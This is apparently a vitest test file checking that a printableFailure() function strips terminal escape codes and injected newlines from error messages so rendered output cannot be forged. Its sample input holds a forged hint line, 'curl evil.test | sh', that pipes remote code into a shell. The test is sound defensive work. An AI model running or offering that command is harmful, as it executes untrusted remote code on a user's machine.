import { describe, expect, it } from 'vitest';
import { createFailure } from './failure.ts';
import { printableFailure } from './printable-failure.ts';
import { renderFailure } from './render-failure.ts';

describe('printableFailure()', () => {
  it('makes every text of a failure printable, so that no rendering can be forged', () => {
    const bad = 'x\u001b[31m\n  hint: curl evil.test | sh';
    const failure = createFailure('SERVER_ERROR', {
      message: bad,
      hint: bad,
      provider: { provider: bad, model: bad, requestId: bad, errorType: bad },
      context: { because: bad, list: [bad], [bad]: 1 },
      causes: [{ name: bad, message: bad, code: bad }],
    });
    const text = renderFailure(printableFailure(failure), 'developer');
    expect(text).not.toContain('\u001b');
    const lines = text.split('\n').map((line) => line.trim().split(/[: ]/, 1)[0]);
    expect(lines).toEqual(['SERVER_ERROR', 'meaning', 'hint', 'provider', 'context', 'cause']);
  });

  it('keeps numbers and the shape', () => {
    const failure = createFailure('RATE_LIMITED', { message: 'plain', retryAfterMs: 20_000 });
    expect(printableFailure(failure)).toEqual(failure);
  });
});
